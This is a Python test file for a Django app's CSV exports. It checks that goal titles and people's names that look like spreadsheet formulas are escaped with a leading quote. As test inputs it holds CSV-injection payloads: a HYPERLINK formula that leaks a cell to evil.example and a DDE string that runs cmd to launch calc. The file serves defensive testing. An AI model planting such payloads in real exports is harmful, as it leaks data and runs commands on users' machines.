"""Exports that spreadsheets open safely: a goal titled like a formula stays text in the plan CSV,
and so does a person's name in the people CSV; both are UTF-8 with a BOM and one line ending."""

import csv
import io
from pathlib import Path

from django.core.management import call_command

from trellis.accounts.models import User
from trellis.goals import services

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
BOM = b"\xef\xbb\xbf"


def read(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    assert b"\r" not in data
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_it_neutralises_a_formula_like_goal_title_in_the_plan_export(world, login):
    services.goal_create(
        actor=world.bob, owner=world.bob, engagement=world.engagement, title=FORMULA
    )
    response = login(world.bob).get("/o/acme/plan.csv")
    rows = read(response.content)
    header, goal = rows[0], rows[1]
    assert goal[header.index("goal")] == "'" + FORMULA


def test_it_neutralises_a_formula_like_name_in_the_people_export(world, login):
    User.objects.filter(pk=world.bob.user.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    rows = read(login(world.olga).get("/o/acme/people/export.csv").content)
    assert ["bob@acme.test", "'@SUM(1+1)*cmd|' /C calc'!A0"] in [row[:2] for row in rows]


def test_it_neutralises_formula_like_names_in_the_match_export(tmp_path):
    examples = Path(__file__).resolve().parents[3] / "docs" / "examples" / "matching"
    people = (examples / "participants.csv").read_text(encoding="utf-8").splitlines()
    header = people[0].split(",")
    first = next(csv.reader([people[1]]))
    first[header.index("name")] = "=1+2"
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(first)
    (tmp_path / "people.csv").write_text(
        "\n".join([people[0], buffer.getvalue().strip(), *people[2:]]) + "\n"
    )
    out = tmp_path / "matches.csv"
    call_command(
        "match",
        "run",
        str(examples / "rules.toml"),
        str(tmp_path / "people.csv"),
        "--out",
        str(out),
        stdout=io.StringIO(),
        stderr=io.StringIO(),
    )
    cells = [cell for row in read(out.read_bytes()) for cell in row]
    assert "'=1+2" in cells and "=1+2" not in cells
